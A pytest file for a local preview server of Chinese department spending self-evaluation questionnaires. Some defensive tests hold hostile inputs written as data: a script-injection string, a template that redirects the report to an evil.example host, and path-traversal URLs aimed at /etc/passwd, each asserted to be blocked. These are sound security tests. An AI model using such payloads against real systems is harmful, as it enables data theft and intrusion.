"""`authoring serve` through its routes (Starlette's TestClient): what a clerk's browser receives."""

from __future__ import annotations

import asyncio
import os
import re
import shutil
from pathlib import Path
from urllib.parse import quote

import warnings

import pytest

with warnings.catch_warnings():  # Starlette 1.x prefers httpx2 for its test client; httpx is what is installed
    warnings.simplefilter("ignore")
    from starlette.testclient import TestClient

from authoring.cli import main
from authoring.serve.app import create_app
from authoring.serve.downloads import content_disposition
from authoring.serve.folder import Folder
from authoring.serve.watch import Hub, watch
from conftest import INDICATORS, MINIMAL, ROOT

EXAMPLE = ROOT / "inputs" / "zipingbiao-example-2024.yaml"
SEED = ROOT / "tests" / "seeds" / "panyu-zhengxie-2023.yaml"


def client_for(path: Path) -> TestClient:
    return TestClient(create_app(Folder(str(path)), watching=False), base_url="http://127.0.0.1")


@pytest.fixture
def bureau(tmp_path):
    """A folder as a bureau keeps it: a clean questionnaire, one with findings, one that is not YAML."""
    folder = tmp_path / "问卷"
    folder.mkdir()
    shutil.copy(EXAMPLE, folder / "农业农村局.yaml")
    shutil.copy(SEED, folder / "政协.yaml")
    (folder / "坏的.yaml").write_text("地区: national\n年度: [2023\n", encoding="utf-8")
    (folder / "说明.txt").write_text("不是问卷", encoding="utf-8")
    (folder / ".hidden.yaml").write_text(MINIMAL + INDICATORS, encoding="utf-8")
    return folder


def text_of(html: str) -> str:
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", html))


def test_overview_has_one_row_per_questionnaire(bureau):
    page = client_for(bureau).get("/")
    assert page.status_code == 200
    rows = re.findall(r"<tr class=\"status-(\w+)\">(.*?)</tr>", page.text, re.S)
    assert [(status, text_of(cells).split()[0]) for status, cells in rows] == [
        ("ok", "农业农村局.yaml"), ("unreadable", "坏的.yaml"), ("errors", "政协.yaml")]
    ok = text_of(rows[0][1])
    assert "2024年度某县农业农村局部门整体支出绩效自评表 没有问题 96.33 优 0 0" in ok
    assert text_of(rows[2][1]).endswith("有错误 — 2 13 ")
    assert f'href="/q/{quote("农业农村局.yaml")}"' in page.text
    assert "共 3 份问卷：1 份没有问题，0 份有警告，1 份有错误，1 份无法读取。" in text_of(page.text)
    assert "说明.txt" not in page.text and ".hidden" not in page.text


def test_single_file_opens_its_page_with_findings_and_summary(tmp_path):
    q = tmp_path / "政协.yaml"
    shutil.copy(SEED, q)
    client = client_for(q)
    first = client.get("/", follow_redirects=False)
    assert first.status_code == 303 and first.headers["location"] == f"/q/{quote('政协.yaml')}"
    page = client.get(first.headers["location"])
    assert page.status_code == 200
    text = text_of(page.text)
    assert "错误 M6 政协.yaml:42:10 支出.预算执行率 预算执行率应为 支出合计决算数 2824.00 ÷ 收入合计 3013.08" in text
    assert "警告 T9 政协.yaml:25:16 年度总体工作和重点工作任务[3].内容 “基层织”应为“基层组织”" in text
    assert "错误 2 警告 13" in text
    assert "支出占收入合计 93.72%" in text and "缺少指标得分，未能计算总分" in text
    assert f'title="{q}"' in page.text  # the whole path on hovering
    assert page.text.count('class="finding error"') == 2 and page.text.count('class="finding warning"') == 13
    assert 'aria-disabled="true"' in page.text  # no downloads while there are errors, as build
    assert "Content-Security-Policy" in page.headers


def test_summary_of_a_clean_questionnaire(tmp_path):
    q = tmp_path / "q.yaml"
    shutil.copy(EXAMPLE, q)
    text = text_of(client_for(q).get("/q/q.yaml").text)
    assert "总分 96.33 分 等级 优 错误 0 警告 0" in text
    assert "没有发现问题，可以生成报告。" in text
    assert "下载 Word（DOCX） 下载 PDF" in text


def test_preview_is_the_pdf_template_laid_out_as_pages(tmp_path):
    q = tmp_path / "q.yaml"
    shutil.copy(EXAMPLE, q)
    page = client_for(q).get("/q/q.yaml/preview")
    assert page.status_code == 200
    assert "<h1 class=\"title\">2024年度某县农业农村局<br>部门整体支出绩效自评表</h1>" in page.text
    assert 'data-example="示例"' in page.text
    assert '<script src="/_ui/paginate.js" defer></script>' in page.text
    assert "file://" not in page.text  # fonts come from us, not from the disk
    policy = page.headers["content-security-policy"]
    assert "script-src 'self'" in policy and "default-src 'none'" in policy
    font = re.search(r'url\("(/_fonts/\d+/[^"]+)"\)', page.text)
    if font:  # only faces that fontconfig does not know are served
        assert client_for(q).get(font.group(1)).status_code == 200


def test_what_the_clerk_typed_is_only_text(write):
    q = write(MINIMAL.replace("负责某某工作。", "负责某某工作<script>alert(1)</script>。") + INDICATORS)
    client = client_for(q)
    preview = client.get("/q/q.yaml/preview").text
    assert "<script>alert(1)" not in preview and "&lt;script&gt;alert(1)&lt;/script&gt;" in preview


def test_a_template_cannot_send_the_report_anywhere(tmp_path, monkeypatch):
    from authoring.serve import preview

    hostile = ('<html><head><meta http-equiv="refresh" content="0;url=http://evil.example/?d=报告">'
               '<LINK rel="dns-prefetch" href="//secret.evil.example"></head><body><p>正文</p></body></html>')
    monkeypatch.setattr(preview, "render_html", lambda context, profile: hostile)
    q = tmp_path / "q.yaml"
    shutil.copy(EXAMPLE, q)
    page = client_for(q).get("/q/q.yaml/preview")
    assert "evil" not in page.text and "<p>正文</p>" in page.text
    assert page.headers["x-dns-prefetch-control"] == "off"


def test_yaml_mistake_shows_the_located_message_instead_of_the_preview(tmp_path):
    q = tmp_path / "q.yaml"
    q.write_text("地区: national\n年度: [2023\n", encoding="utf-8")
    client = client_for(q)
    page = client.get("/q/q.yaml")
    assert page.status_code == 200
    text = text_of(page.text)
    assert "暂时无法显示报告预览 问卷不能读取，改正后显示报告预览：" in text
    assert re.search(rf"{re.escape(str(q))}:2:\d+: 错误 \[Y1\] 不是有效的 YAML", text)
    assert '<div class="frames" id="frames" hidden>' in page.text
    assert '<pre class="excerpt"><span class="line-number">第 2 行</span>年度: <mark>[</mark>2023</pre>' in page.text
    state = client.get("/q/q.yaml/state").json()
    assert state["preview"] is None and "[Y1]" in state["no_preview"]
    assert "[Y1]" in client.get("/q/q.yaml/preview").text  # even the frame is never blank


def test_page_follows_the_file_and_says_when_it_is_gone(tmp_path):
    q = tmp_path / "q.yaml"
    shutil.copy(EXAMPLE, q)
    client = client_for(q)
    before = client.get("/q/q.yaml/state").json()
    q.write_text(q.read_text(encoding="utf-8").replace("得分: 5.52", "得分: 4.52"), encoding="utf-8")
    after = client.get("/q/q.yaml/state").json()
    assert after["version"] != before["version"]
    assert ">95.33<" in after["panel"] and ">96.33<" in before["panel"]
    q.unlink()
    gone = client.get("/q/q.yaml/state").json()
    assert f"找不到文件：{q}" in gone["panel"] and gone["preview"] is None


def test_folder_page_of_a_removed_questionnaire(bureau):
    client = client_for(bureau)
    assert client.get(f"/q/{quote('政协.yaml')}/state").status_code == 200
    (bureau / "政协.yaml").unlink()
    gone = client.get(f"/q/{quote('政协.yaml')}/state")
    assert gone.status_code == 404 and "已不在文件夹" in gone.json()["panel"]


@pytest.mark.parametrize("url", [
    "/q/%2e%2e", "/q/.%2e", "/q/%2E%2E/state", "/q/..%2F..%2Fetc%2Fpasswd", "/q/%2Fetc%2Fpasswd",
    "/q//etc/passwd", "/q/../../etc/passwd", "/q/.hidden.yaml", "/q/说明.txt", "/q/outside.yaml",
    "/q/outside.yaml/preview", "/q/outside.yaml/report.pdf", "/_ui/..%2Fapp.py", "/_ui/base.html.j2",
    "/_fonts/99/x.otf", "/q/农业农村局.yaml/report.exe",
])
def test_only_the_folders_questionnaires_are_served(bureau, tmp_path, url):
    secret = tmp_path / "secret.yaml"
    shutil.copy(EXAMPLE, secret)
    os.symlink(secret, bureau / "outside.yaml")
    client = client_for(bureau)
    response = client.get(url)
    assert response.status_code == 404
    assert "找不到" in response.text and "某县农业农村局" not in response.text
    assert "outside.yaml" not in client.get("/").text


def test_other_host_names_are_refused(tmp_path):
    q = tmp_path / "q.yaml"
    shutil.copy(EXAMPLE, q)
    app = create_app(Folder(str(q)), watching=False)
    assert TestClient(app, base_url="http://evil.example").get("/q/q.yaml").status_code == 400  # DNS rebinding
    assert TestClient(app, base_url="http://localhost:8765").get("/q/q.yaml").status_code == 200


def test_downloads_are_rendered_on_request_with_the_report_name(tmp_path):
    q = tmp_path / "q.yaml"
    shutil.copy(EXAMPLE, q)
    client = client_for(q)
    name = "2024年度某县农业农村局部门整体支出绩效自评表"
    docx = client.get("/q/q.yaml/report.docx")
    assert docx.status_code == 200 and docx.content[:2] == b"PK"
    assert docx.headers["content-disposition"] == content_disposition(f"{name}.docx")
    assert docx.headers["content-type"].startswith("application/vnd.openxmlformats")
    pdf = client.get("/q/q.yaml/report.pdf")
    assert pdf.status_code == 200 and pdf.content[:5] == b"%PDF-"
    assert f"filename*=UTF-8''{quote(name)}.pdf" in pdf.headers["content-disposition"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["q.yaml"]  # nothing written to disk


def test_a_broken_template_is_shown_located_in_the_preview_and_the_download(tmp_path, monkeypatch, write):
    from conftest import make_templates

    root = make_templates(tmp_path, {"broken": "名称: 模板坏了的地区\n继承: national\n"})
    template = root / "broken" / "report.html.j2"
    template.write_text("<html><body>\n{{ 1 // 0 }}\n</body></html>\n", encoding="utf-8")
    monkeypatch.setenv("AUTHORING_TEMPLATES", str(root))
    q = write((MINIMAL + INDICATORS).replace("地区: national", "地区: broken"))
    client = client_for(q)
    preview = text_of(client.get("/q/q.yaml/preview").text)
    assert f"暂时无法显示报告预览 PDF 模板出错，无法显示预览： {template}:2:1: 错误 [H1]" in preview
    pdf = client.get("/q/q.yaml/report.pdf")
    assert pdf.status_code == 500
    assert f"生成报告时出错 {template}:2:1: 错误 [H1]" in text_of(pdf.text)
    assert client.get("/q/q.yaml/report.docx").content[:2] == b"PK"


def test_no_download_while_there_are_errors(tmp_path):
    q = tmp_path / "q.yaml"
    shutil.copy(SEED, q)
    response = client_for(q).get("/q/q.yaml/report.pdf")
    assert response.status_code == 409
    assert "与 build 相同：问卷有错误时不生成报告" in response.text and "[M6]" in response.text


def test_content_disposition_names_the_file_in_rfc_5987_form():
    assert content_disposition("2024年度报告.pdf") == (
        "attachment; filename=\"2024.pdf\"; filename*=UTF-8''2024%E5%B9%B4%E5%BA%A6%E6%8A%A5%E5%91%8A.pdf")
    assert content_disposition("附件1 报告.docx").startswith('attachment; filename="1.docx";')
    assert content_disposition("报告.pdf").startswith('attachment; filename="report.pdf";')
    assert '"' not in content_disposition('a"b\\c.pdf').split(";")[1].strip()[10:-1]


def test_saving_the_file_is_announced_at_once(tmp_path):
    q = tmp_path / "q.yaml"
    q.write_text("地区: national\n", encoding="utf-8")
    folder = Folder(str(q))

    async def scenario() -> list[str] | None:
        hub = Hub()
        task = asyncio.create_task(watch(tmp_path, False, hub, lambda paths: sorted(
            {n for p in paths if (n := folder.name_of_changed(p))})))
        await asyncio.sleep(0.3)
        (tmp_path / "other.yaml").write_text("x: 1\n", encoding="utf-8")  # not this questionnaire
        q.write_text("地区: national\n年度: 2023\n", encoding="utf-8")
        loop = asyncio.get_running_loop()
        start = loop.time()
        names = await hub.wait(0, 5)
        elapsed = loop.time() - start
        task.cancel()
        assert elapsed < 2.0  # about 0.1 s on an idle machine (watch.py: STEP_MS, DEBOUNCE_MS)
        return names

    assert asyncio.run(scenario()) == ["q.yaml"]


def test_serve_command_usage_errors(tmp_path, capsys):
    assert main(["serve", str(tmp_path / "无.yaml"), "--no-browser"]) == 2
    assert "无.yaml 不存在；请写出问卷文件或存放问卷的文件夹" in capsys.readouterr().err
    assert main(["serve", str(tmp_path), "--port", "http", "--no-browser"]) == 2
    assert "--port http：端口应为 1 到 65535 之间的数字，或写 0、auto 自动选择" in capsys.readouterr().err


def test_serve_command_warns_when_the_network_can_read(tmp_path, capsys, monkeypatch):
    import uvicorn

    started = []
    monkeypatch.setattr(uvicorn.Server, "run", lambda self, sockets=None: started.append(sockets[0].getsockname()))
    assert main(["serve", str(tmp_path), "--host", "0.0.0.0", "--port", "0", "--no-browser"]) == 0
    out, err = capsys.readouterr()
    assert err.startswith("警告：--host 0.0.0.0：同一网络中的任何人都能打开这个地址，读到这些问卷和报告")
    port = started[0][1]
    assert f"请在浏览器中打开 http://127.0.0.1:{port}/" in out and out.endswith("已停止预览\n")
    assert main(["serve", str(tmp_path), "--port", "0", "--no-browser"]) == 0
    out, err = capsys.readouterr()
    assert err == "" and "文件夹" in out and "（0 份问卷）" in out
